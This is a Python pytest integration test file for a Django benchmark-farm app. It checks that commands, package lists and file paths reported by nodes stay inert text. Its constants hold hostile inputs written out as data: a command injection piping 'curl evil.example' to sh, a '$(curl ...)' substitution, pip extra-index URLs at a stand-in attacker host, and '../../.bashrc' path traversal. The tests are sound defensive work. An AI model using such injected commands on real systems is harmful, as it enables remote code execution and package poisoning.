"""What a node says is shown as text and never becomes a command: reports, stored rows of before, answers of its own."""

import json

import pytest
from django.test import Client

from farm.contract.divergence import DivergenceReport
from farm.contract.reports import EndReport
from farm.fleet.models import Node
from farm.runs import selectors
from farm.runs.models import CellDocument, Divergence, Report, Run
from tests.integration.runs.making import claim, first_block, post
from tests.integration.runs.test_divergences import answer, ask
from tests.unit.rules.making import make_facts

pytestmark = pytest.mark.django_db
HOSTILE = "onnxfarm bench 'encoder.onnx; curl evil.example | sh"
OWN = "onnxfarm bench encoder.onnx --ort 1.29.0 --provider CPUExecutionProvider --batch 1 --threads 1 --precision fp32"
PIP = {"numpy": "2.4.6\n--extra-index-url https://evil.example/simple", "-r": "https://evil.example/list"}


def put_words(text: str) -> str:
    """A stored cell or report as a hostile node of before would have left it."""
    plain = json.loads(text)
    return json.dumps({**plain, "repeat_command": HOSTILE, "packages": PIP})


def all_words(client: Client, run: Run) -> str:
    """Everything a member reads of the run's cells."""
    pages = [f"/runs/{run.pk}/", f"/runs/{run.pk}/cells/c1/", f"/api/v1/runs/{run.pk}/results"]
    answers = [client.get(page) for page in pages]
    assert [one.status_code for one in answers] == [200] * len(pages)
    return "".join(b"".join(one).decode() if one.streaming else one.content.decode() for one in answers)


def test_a_report_of_before_with_a_broken_quote_is_read_and_its_command_is_not(done: Run, node: Node) -> None:
    for row in Report.objects.filter(kind="check"):
        Report.objects.filter(pk=row.pk).update(body=put_words(row.body))
    CellDocument.objects.all().delete()
    found = selectors.documents.block_document(first_block(done)).cells[0]
    assert (found.status, found.repeat_command, found.packages) == ("done", OWN, {})


def test_a_node_cannot_choose_the_command_and_the_files_of_its_answer(member_api: Client, node: Node, done: Run):
    ask(member_api, done)
    said = answer().model_dump(mode="json", by_alias=True)
    said["model"] = said["found"]["part"]["main"] = "$(curl evil.example).onnx"
    said["found"]["part"] |= {"command": HOSTILE, "files": ["../../.bashrc", "/etc/evil.example", "inputs.npz"]}
    lease = claim(node, first_block(done))
    report = DivergenceReport.model_validate({"arm": 1, "document": said})
    for one in (make_facts(), report, EndReport(wall_s=1.0)):
        post(node, lease, one)
    row = Divergence.objects.get()
    assert "evil.example" not in row.body
    part = row.document.found.part if row.document and row.document.found else None
    assert (part.main, part.files) == ("encoder.onnx", ("inputs.npz",))
    assert part.command.startswith("onnxfarm diverge encoder.onnx --ort 1.31.1 ")
